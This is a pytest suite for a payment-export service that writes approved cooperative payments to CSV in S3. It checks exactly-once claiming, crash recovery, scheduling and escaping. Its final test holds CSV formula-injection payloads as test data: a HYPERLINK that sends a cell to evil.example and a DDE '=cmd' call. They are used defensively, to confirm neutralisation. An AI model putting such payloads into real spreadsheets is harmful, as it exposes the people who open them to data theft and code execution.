"""Export of approved payments for the core system (SPEC §4): exactly once, the CSV, S3, schedule."""

from __future__ import annotations

import re
import threading
from datetime import UTC, datetime, timedelta

import pytest

from chalicelib.adapters import export_files
from chalicelib.adapters.dynamo.backoffice_repo import DynamoExports
from chalicelib.adapters.dynamo.models import AuditEvent, Export, Payment
from chalicelib.adapters.dynamo.unit_of_work import DynamoUnitOfWork
from chalicelib.domain.payments import EXPORT_READY
from chalicelib.services import exports, payments
from chalicelib.services.payments.settle import settle
from tests.backoffice_support import (
    BUCKET,
    approved_payment,
    exported_references,
    parse_csv,
    s3_objects,
)
from tests.conftest import concurrently, raised
from tests.payment_support import get_payment, start

ISO_COLOMBIA = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}-05:00$")


def _members(make_member, count: int) -> list[str]:  # type: ignore[no-untyped-def]
    documents = [f"{70000000 + n}" for n in range(count)]
    for document in documents:
        make_member(document, full_name=f"Asociado {document}")
    return documents


def test_an_approval_queues_the_payment_for_export(ctx, make_member, make_obligation, gateway):  # type: ignore[no-untyped-def]
    make_member()
    payment = approved_payment(ctx, gateway, make_obligation)
    assert payment.export_pending == EXPORT_READY
    assert payment.exported_at is None and payment.export_id is None
    queued = [p.payment_id for p in Payment.export_queue.query(EXPORT_READY)]
    assert queued == [payment.payment_id]


def test_only_approved_payments_enter_the_queue(ctx, make_member, make_obligation, gateway):  # type: ignore[no-untyped-def]
    make_member()
    make_obligation("CR-0001")
    make_obligation("CR-0002")
    rejected = start(ctx, items=[("CR-0001", 150_000)], key="k1")
    pending = start(ctx, items=[("CR-0002", 150_000)], key="k2")
    gateway.settle(rejected.reference, "REJECTED")
    payments.refresh_payment(ctx, rejected.id)
    assert get_payment(rejected.id).status == "REJECTED"
    assert get_payment(pending.id).status == "PENDING"
    assert list(Payment.export_queue.query(EXPORT_READY)) == []
    result = exports.export_approved(ctx, now=ctx.now(), requested_by="staff:test")
    assert result.rows == 0 and result.payments == 0
    assert parse_csv(result.csv_text) == []
    assert result.csv_text == ";".join(exports.COLUMNS) + "\r\n"  # the header row alone


def test_export_writes_one_row_per_obligation_paid(ctx, make_member, make_obligation, gateway, clock):  # type: ignore[no-untyped-def]
    make_member(full_name="María José Peña; hija")  # a delimiter inside a value is quoted
    payment = approved_payment(ctx, gateway, make_obligation,
                               obligations=(("AP-0001", 60_000), ("CR-0001", 150_000)))
    clock.advance(hours=15)  # 06:00 in Colombia the next day
    result = exports.export_approved(ctx, now=clock.now, requested_by="system:schedule")

    colombia_day = clock.now - timedelta(hours=5)
    assert result.key == (f"exports/{colombia_day:%Y/%m/%d}/pagos-aprobados-{result.export_id}.csv")
    assert re.fullmatch(r"\d{8}-\d{6}-[a-z2-9]{6}", result.export_id)
    assert (result.rows, result.payments, result.total_amount) == (2, 1, 210_000)

    header = result.csv_text.split("\r\n", 1)[0]
    assert header.split(";") == list(exports.COLUMNS)
    rows = parse_csv(result.csv_text)
    assert [(r["obligation_id"], r["amount"]) for r in rows] == [("AP-0001", "60000"), ("CR-0001", "150000")]
    first = rows[0]
    assert first["export_id"] == result.export_id
    assert first["reference"] == payment.reference and first["cus"] == payment.cus
    assert ISO_COLOMBIA.match(first["approved_at"])
    assert datetime.fromisoformat(first["approved_at"]) == payment.approved_at
    assert first["document_type"] == "CC" and first["document_number"] == "1020304050"
    assert first["full_name"] == "María José Peña; hija"
    assert first["obligation_type"] == "CREDITO" and first["product_number"] == "004500001234"
    assert first["payment_total"] == "210000"
    assert first["gateway"] == "fake" and first["gateway_id"] == payment.gateway_id
    assert '"María José Peña; hija"' in result.csv_text

    stored = s3_objects()
    assert stored == {result.key: result.csv_text.encode("utf-8")}  # UTF-8, no BOM
    assert not stored[result.key].startswith(b"\xef\xbb\xbf")

    after = get_payment(payment.payment_id)
    assert after.export_pending is None and after.export_id == result.export_id
    assert after.exported_at == clock.now
    record = Export.get(result.export_id)
    assert record.status == "COMPLETE" and record.open_flag is None
    assert (record.key, record.rows, record.total_amount, record.requested_by) == (
        result.key, 2, 210_000, "system:schedule")
    audit = list(AuditEvent.query("system"))
    assert [(a.event, a.details["export_id"]) for a in audit] == [("payments_exported", result.export_id)]

    again = exports.export_approved(ctx, now=clock.now, requested_by="staff:test")
    assert again.rows == 0 and again.export_id != result.export_id  # never exported twice
    assert exported_references(s3_objects()) == [payment.reference]


def test_a_late_approval_of_an_expired_payment_is_exported(ctx, make_member, make_obligation, gateway, clock):  # type: ignore[no-untyped-def]
    make_member()
    make_obligation()
    started = start(ctx)
    with ctx.unit_of_work() as uow:
        settle(ctx, uow.payments.get(started.id), target="EXPIRED", transaction=None, actor="system",
               uow=uow)
    gateway.settle(started.reference, "APPROVED")
    payments.refresh_payment(ctx, started.id)
    assert get_payment(started.id).export_pending == EXPORT_READY
    assert exports.export_approved(ctx, now=clock.now, requested_by="t").payments == 1


def test_a_payment_can_be_claimed_by_one_export_only(ctx, make_member, make_obligation, gateway, clock):  # type: ignore[no-untyped-def]
    make_member()
    payment = approved_payment(ctx, gateway, make_obligation)
    claims = DynamoUnitOfWork().exports
    first = claims.claim(payment.payment_id, export_id="A", now=clock.now)
    second = claims.claim(payment.payment_id, export_id="B", now=clock.now)
    assert first is not None and first.reference == payment.reference  # the whole item came back
    assert second is None
    assert get_payment(payment.payment_id).export_id == "A"


def _alternating(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """Two exports read the whole queue before either claims, then claim in turns from opposite
    ends: the worst interleaving for an exactly-once claim, made deterministic."""
    barrier = threading.Barrier(2, timeout=10)
    turn = threading.Condition()
    state = {"turn": 0, "done": set()}
    original_candidates = DynamoExports.queued
    original_claim = DynamoExports.claim
    names: dict[int, int] = {}

    def candidates(self, *, page_size):  # type: ignore[no-untyped-def]
        found = list(original_candidates(self, page_size=page_size))
        barrier.wait()
        with turn:
            me = names.setdefault(threading.get_ident(), len(names))
        return iter(found if me == 0 else list(reversed(found)))

    def claim(self, payment_id, *, export_id, now):  # type: ignore[no-untyped-def]
        me = names[threading.get_ident()]
        with turn:
            turn.wait_for(lambda: state["turn"] == me or (1 - me) in state["done"], timeout=10)
            try:
                return original_claim(self, payment_id, export_id=export_id, now=now)
            finally:
                state["turn"] = 1 - me
                turn.notify_all()

    monkeypatch.setattr(DynamoExports, "queued", candidates)
    monkeypatch.setattr(DynamoExports, "claim", claim)

    original_finish = exports.finish

    def finish(*args, **kwargs):  # type: ignore[no-untyped-def]
        with turn:
            state["done"].add(names[threading.get_ident()])
            turn.notify_all()
        return original_finish(*args, **kwargs)

    monkeypatch.setattr(exports, "finish", finish)


def _run_concurrently(ctx, count: int, now) -> list[exports.ExportResult]:  # type: ignore[no-untyped-def]
    results = concurrently(lambda n: exports.export_approved(ctx, now=now, requested_by=f"staff:t{n}"), count)
    assert not raised(results), raised(results)
    return results


def test_two_concurrent_exports_share_out_the_payments_exactly_once(  # type: ignore[no-untyped-def]
        ctx, make_member, make_obligation, gateway, clock, monkeypatch):
    documents = _members(make_member, 6)
    references = [approved_payment(ctx, gateway, make_obligation, document_number=d).reference
                  for d in documents]
    _alternating(monkeypatch)
    a, b = _run_concurrently(ctx, 2, clock.now)

    in_a = {r["reference"] for r in parse_csv(a.csv_text)}
    in_b = {r["reference"] for r in parse_csv(b.csv_text)}
    assert len(in_a) == len(in_b) == 3  # each export won half of the contested claims
    assert in_a.isdisjoint(in_b) and in_a | in_b == set(references)
    objects = s3_objects()
    assert set(objects) == {a.key, b.key}
    assert sorted(exported_references(objects)) == sorted(references)
    for reference in references:
        payment = next(iter(Payment.by_reference.query(reference)))
        assert payment.export_id in (a.export_id, b.export_id) and payment.export_pending is None


def test_many_concurrent_exports_never_export_a_payment_twice(ctx, make_member, make_obligation,  # type: ignore[no-untyped-def]
                                                              gateway, clock):
    documents = _members(make_member, 12)
    references = [approved_payment(ctx, gateway, make_obligation, document_number=d).reference
                  for d in documents]
    results = _run_concurrently(ctx, 4, clock.now)
    exported = exported_references(s3_objects())
    assert sorted(exported) == sorted(references)  # each once, none lost
    assert sum(r.payments for r in results) == len(references)


def test_an_export_that_crashed_after_claiming_is_finished_by_a_later_run(  # type: ignore[no-untyped-def]
        ctx, make_member, make_obligation, gateway, clock, monkeypatch):
    documents = _members(make_member, 2)
    first = [approved_payment(ctx, gateway, make_obligation, document_number=d) for d in documents]
    real_put = export_files.put

    def broken(*args, **kwargs):  # type: ignore[no-untyped-def]
        raise RuntimeError("S3 unavailable")

    monkeypatch.setattr(export_files, "put", broken)
    with pytest.raises(RuntimeError):
        exports.export_approved(ctx, now=clock.now, requested_by="system:schedule")
    monkeypatch.setattr(export_files, "put", real_put)
    (crashed,) = [e for e in Export.scan() if e.status == "OPEN"]
    assert {get_payment(p.payment_id).export_id for p in first} == {crashed.export_id}

    # Within the lease, nobody touches it (its process might still be alive).
    make_member("80000001")
    late = approved_payment(ctx, gateway, make_obligation, document_number="80000001")
    clock.advance(minutes=5)
    soon = exports.export_approved(ctx, now=clock.now, requested_by="staff:t")
    assert {r["reference"] for r in parse_csv(soon.csv_text)} == {late.reference}
    assert Export.get(crashed.export_id).status == "OPEN"

    clock.advance(minutes=16)  # the lease (20 min) has run out
    later = exports.export_approved(ctx, now=clock.now, requested_by="staff:t")
    assert later.rows == 0
    finished = Export.get(crashed.export_id)
    assert finished.status == "COMPLETE" and finished.payments == 2 and finished.open_flag is None
    objects = s3_objects()
    assert finished.key in objects
    assert {r["reference"] for r in parse_csv(objects[finished.key].decode())} == {p.reference for p in first}
    assert sorted(exported_references(objects)) == sorted([p.reference for p in first] + [late.reference])


def test_the_local_stage_creates_its_bucket_on_first_use(ctx, make_member, make_obligation, gateway):  # type: ignore[no-untyped-def]
    import boto3

    s3 = boto3.client("s3", region_name="us-east-1")
    assert BUCKET not in [b["Name"] for b in s3.list_buckets()["Buckets"]]
    make_member()
    approved_payment(ctx, gateway, make_obligation)
    result = exports.export_approved(ctx, now=ctx.now(), requested_by="t")
    assert result.bucket == BUCKET
    assert s3.head_object(Bucket=BUCKET, Key=result.key)["ContentType"] == "text/csv; charset=utf-8"


def test_the_schedule_handler_exports(client, make_member, make_obligation, gateway, ctx, clock):  # type: ignore[no-untyped-def]
    make_member()
    payment = approved_payment(ctx, gateway, make_obligation)
    event = client.events.generate_cw_event(
        source="aws.events", detail_type="Scheduled Event", detail={},
        resources=["arn:aws:events:us-east-1:123456789012:rule/export"], region="us-east-1")
    answer = client.lambda_.invoke("export_approved_payments", event).payload
    assert answer["rows"] == 1 and answer["payments"] == 1
    assert get_payment(payment.payment_id).export_id == answer["export_id"]
    assert Export.get(answer["export_id"]).requested_by == "system:schedule"
    assert client.lambda_.invoke("export_approved_payments", event).payload["rows"] == 0


def test_the_schedule_is_six_in_the_morning_in_colombia() -> None:
    from app import app

    assert "export_approved_payments" in app.handler_map
    schedule = [e for e in app.event_sources if getattr(e, "name", "") == "export_approved_payments"]
    assert schedule and schedule[0].schedule_expression.to_string() == "cron(0 11 * * ? *)"


# --- the hook for the import ("aplicado en la cooperativa") -----------------------------------------

def test_the_import_hook_confirms_exported_payments_only(ctx, make_member, make_obligation, gateway, clock):  # type: ignore[no-untyped-def]
    documents = _members(make_member, 2)
    exported, not_yet = (approved_payment(ctx, gateway, make_obligation, document_number=d)
                         for d in documents)
    # Only the first is exported (claimed by hand, as an export would).
    export_time = clock.now + timedelta(hours=1)
    assert DynamoUnitOfWork().exports.claim(exported.payment_id, export_id="E1",
                                            now=export_time) is not None
    ids = [exported.payment_id, not_yet.payment_id]

    before_export = export_time - timedelta(minutes=1)
    assert exports.known_to_core(ctx, ids, cutoff=before_export) == set()  # approved, but not sent yet
    assert exports.known_to_core(ctx, ids, cutoff=export_time) == {exported.payment_id}

    assert exports.confirm_applied_in_core(ctx, ids, cutoff=before_export) == 0
    assert exports.confirm_applied_in_core(ctx, ids, cutoff=export_time + timedelta(hours=2)) == 1
    assert exports.confirm_applied_in_core(ctx, ids, cutoff=export_time + timedelta(hours=3)) == 0  # once
    assert get_payment(exported.payment_id).core_applied_at == clock.now
    assert get_payment(not_yet.payment_id).core_applied_at is None


def test_bucket_name_outside_the_local_stage_must_be_configured() -> None:
    from dataclasses import replace

    from chalicelib.config import ConfigError, get_settings

    settings = get_settings()
    local = replace(settings, stage="local", import_bucket="")
    assert exports.bucket_name(local) == f"{settings.table_prefix}-files"
    assert exports.bucket_name(replace(settings, stage="prod", import_bucket="b-1")) == "b-1"
    with pytest.raises(ConfigError):
        exports.bucket_name(replace(settings, stage="prod", import_bucket=""))


def test_export_key_uses_the_colombian_date() -> None:
    late_evening = datetime(2026, 11, 24, 3, 30, tzinfo=UTC)  # 22:30 on the 23rd in Colombia
    assert exports.export_key("x", late_evening) == "exports/2026/11/23/pagos-aprobados-x.csv"
    assert exports.new_export_id(late_evening, "abc234") == "20261123-223000-abc234"


def test_an_export_stops_claiming_when_its_time_is_up(  # type: ignore[no-untyped-def]
        ctx, make_member, make_obligation, gateway, clock, monkeypatch):
    from chalicelib.context import Runtime

    documents = _members(make_member, 3)
    references = [approved_payment(ctx, gateway, make_obligation, document_number=d).reference
                  for d in documents]
    ticks = iter([0.0, 1.0, 2.0, 50.0, 51.0, 52.0])  # deadline = 0 + 40 s: two claims fit
    monkeypatch.setattr(Runtime, "monotonic", staticmethod(lambda: next(ticks)))
    first = exports.export_approved(ctx, now=clock.now, requested_by="t")
    assert first.payments == 2
    monkeypatch.setattr(Runtime, "monotonic", staticmethod(lambda: 0.0))
    rest = exports.export_approved(ctx, now=clock.now, requested_by="t")
    assert rest.payments == 1
    assert sorted(exported_references(s3_objects())) == sorted(references)


def test_the_export_never_hands_a_formula_to_a_spreadsheet(ctx, make_member, make_obligation, gateway):  # type: ignore[no-untyped-def]
    """Values stored before the import refused them (or from elsewhere) are neutralised on the way out."""
    make_member(full_name="=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver saldo\")")
    payment = approved_payment(ctx, gateway, make_obligation,
                               obligations=(("=cmd|' /C calc'!A0", 60_000), ("@SUM(A1:A9)", 150_000)),
                               key="k-formulas")
    Payment(payment_id=payment.payment_id).update(actions=[Payment.bank_name.set("+1+1"),
                                                           Payment.cus.set("-1+1")])
    result = exports.export_approved(ctx, now=ctx.now(), requested_by="staff:test")
    rows = parse_csv(result.csv_text)
    assert [r["obligation_id"] for r in rows] == ["'=cmd|' /C calc'!A0", "'@SUM(A1:A9)"]
    for row in rows:
        assert row["full_name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver saldo\")"
        assert (row["bank_name"], row["cus"]) == ("'+1+1", "'-1+1")
        assert all(value[:1] not in "=+-@\t\r" for value in row.values())
    assert '"\'=cmd|\' /C calc\'!A0"' in result.csv_text  # prefixed and quoted
